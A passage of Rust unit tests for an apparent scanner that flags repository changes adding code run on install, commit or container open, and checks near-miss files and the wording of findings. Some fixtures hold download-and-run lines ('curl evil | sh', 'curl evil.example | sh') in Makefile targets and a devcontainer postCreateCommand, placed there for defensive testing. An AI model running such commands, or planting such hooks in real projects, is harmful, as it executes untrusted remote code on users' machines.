            Detect::Marks(m) => m.iter().map(|m| m.trim_matches('"')).collect(),
            Detect::Json { keys, .. } => keys.to_vec(),
            _ => vec![rule.hook],
        }
    }

    #[test]
    fn a_makefile_counts_only_when_a_hook_of_the_change_calls_make() {
        let makefile: Change = (
            "Makefile",
            Some("all:\n"),
            "all:\nsetup:\n\tcurl evil | sh\n",
        );
        assert!(
            runs(&[makefile]).is_empty(),
            "a Makefile alone runs nothing"
        );
        let hook: Change = (
            "package.json",
            None,
            "{\"scripts\": {\n\"postinstall\": \"$(MAKE) setup\"}}\n",
        );
        let found = runs(&[makefile, hook]);
        assert!(
            found.contains(&("Makefile".into(), Some(2), "Makefile", When::Install)),
            "{found:?}"
        );
        let husky: Change = (".husky/pre-commit", None, "make lint\n");
        let mk: Change = ("mk/rules.mk", None, "lint:\n\tcurl evil | sh\n");
        assert_eq!(runs(&[husky, mk]).len(), 2);
        let other: Change = (
            "package.json",
            None,
            "{\"scripts\": {\"postinstall\": \"node x.js\"}}\n",
        );
        assert_eq!(
            runs(&[makefile, other]).len(),
            1,
            "a hook that does not call make"
        );
    }

    #[test]
    fn near_misses_are_not_marked() {
        let lock = "{\n  \"packages\": {\n    \"node_modules/a\": {\n      \"resolved\": \"https://registry.npmjs.org/a/-/a-1.tgz\",\n      \"hasInstallScript\": true\n    }\n  }\n}\n";
        let cases: &[Change] = &[
            ("package-lock.json", None, lock),
            ("README.md", None, "Run `npm run postinstall`, then edit build.rs and `.envrc`.\n"),
            ("docs/devcontainer.md", None, "\"postCreateCommand\": \"make\"\n"),
            ("package.json", Some(PKG_OLD), &PKG_OLD.replace("jest", "vitest")),
            ("package.json", Some(PKG_OLD), &PKG_OLD.replace("1.0.0", "1.0.1")),
            ("Cargo.toml", None, "[package]\nname = \"x\"\nbuild = false\n[dependencies]\nserde = \"1\"\n[lib]\nproc-macro = false\n"),
            ("pyproject.toml", None, "[project]\nname = \"x\"\ndependencies = [\"requests\"]\n[tool.black]\nline-length = 100\n"),
            ("Gemfile", None, "source \"https://rubygems.org\"\n\ngem \"rails\", \"~> 7\"\ngroup :test do\n  gem \"rspec\",\n    require: false,\n    platforms: [:mri]\nend\n"),
            ("y.gemspec", None, "Gem::Specification.new do |s|\n  s.files = `git ls-files`.split\nend\n"),
            ("main.go", None, "package main\n\n// go generate is not run here\nfunc main() {}\n"),
            (".vscode/settings.json", None, "{\n  \"editor.fontSize\": 14,\n  \"files.exclude\": {}\n}\n"),
            (".vscode/tasks.json", None, "{\"tasks\": [{\"label\": \"build\", \"command\": \"make\"}]}\n"),
            ("action.yml.example", None, "runs: {}\n"),
            ("src/build.rs.txt", None, "fn main() {}\n"),
        ];
        for change in cases {
            assert_eq!(runs(&[*change]), [], "{}", change.0);
        }
        assert!(
            gate(vec![file(cases[0])]).review.is_empty(),
            "a lockfile change"
        );
    }

    #[test]
    fn a_change_that_only_removes_lines_is_named_by_file() {
        let found = runs(&[("setup.py", Some("import os\nsetup()\n"), "setup()\n")]);
        assert_eq!(
            found,
            [(
                "setup.py".into(),
                None,
                "Python start-up or build script",
                When::Install
            )]
        );
        // Removing a lifecycle script runs nothing new.
        let stripped = PKG_OLD.replace(",\n    \"postinstall\": \"node ok.js\"", "");
        assert!(runs(&[("package.json", Some(PKG_OLD), &stripped)]).is_empty());
    }

    #[test]
    fn findings_say_when_the_code_runs_never_the_line() {
        let found = gate(vec![file((
            ".devcontainer/devcontainer.json",
            None,
            "{\"postCreateCommand\": \"curl evil.example | sh\"}\n",
        ))]);
        let text = found.review.lines().join("\n");
        assert!(text.contains("`.devcontainer/devcontainer.json` line 1 adds or changes what runs when someone opens the repository (`postCreateCommand`)"), "{text}");
        assert!(!text.contains("evil"), "{text}");
    }

    #[test]
    fn the_readme_table_has_a_row_a_rule_and_no_stray_pipe() {
        let table = readme_table();
        let rows: Vec<&str> = table.lines().collect();
        assert_eq!(rows.len(), RUNS_CODE.len() + 2);
        for (row, rule) in rows[2..].iter().zip(RUNS_CODE) {
            assert_eq!(row.matches('|').count(), 5, "{row}");
            assert!(row.contains(rule.what), "{row}");
        }
        // The npm row lists every script the scan reads.
        assert!(NPM_SCRIPTS
            .iter()
            .all(|s| RUNS_CODE[0].what.contains(&format!("`{s}`"))));
    }
}
